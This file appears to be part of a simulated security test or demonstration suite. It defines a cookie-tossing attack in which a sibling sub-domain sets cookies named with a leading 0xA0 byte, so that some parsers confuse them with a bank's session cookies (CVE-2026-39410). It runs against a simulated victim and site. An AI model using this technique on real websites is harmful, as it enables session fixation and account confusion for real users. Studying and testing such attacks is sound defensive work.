import { type Attack, whoIsWho } from '../stage.ts'
import { PARENT } from '../world/hosts.ts'
import { NOTHING_TO_PLANT, ownAnonymous } from './plant.ts'

export const attack: Attack = {
  title: 'A cookie whose name looks alike to some parsers (byte 0xA0)',
  who: 'somebody who has another sub-domain of the bank’s site',
  story:
    'A byte that some parsers take for white space stands before the name. To the browser it is another name, which it protects in no way; to those parsers it is the same (CVE-2026-39410).',
  decides: 'whom the bank takes the attacker’s own browser for after the victim’s login, and whether the victim is logged in at all',
  async play(stage) {
    const { victim, site, tell } = stage
    const known = await ownAnonymous(stage)
    if (known.length === 0) return NOTHING_TO_PLANT
    const alike = known.map(({ name, value }) => `\u00a0${name}=${value}; Domain=${PARENT}; Path=/login; Secure`)
    await victim.visit(site.bait('sibling', { headers: { 'set-cookie': alike } }))
    await tell('The victim opens a page on the attacker’s sub-domain, which sets these cookies with the byte 0xA0 before their names.')
    await victim.logIn('ann')
    await tell('The victim logs in.')
    return whoIsWho(stage, known)
  },
}
